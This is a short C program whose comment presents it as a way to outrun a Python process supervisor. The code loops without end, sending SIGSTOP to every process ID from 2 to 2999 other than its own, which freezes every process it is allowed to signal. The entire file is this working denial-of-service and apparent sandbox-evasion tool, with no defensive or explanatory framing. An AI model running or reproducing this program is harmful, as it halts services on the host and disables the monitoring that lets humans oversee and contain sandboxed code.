/* Stops every process it may, faster than Python could catch a child between its clone and its exec. */
#include <signal.h>
#include <unistd.h>

int main(void) {
    for (;;)
        for (int pid = 2; pid < 3000; pid++)
            if (pid != getpid()) kill(pid, SIGSTOP);
}
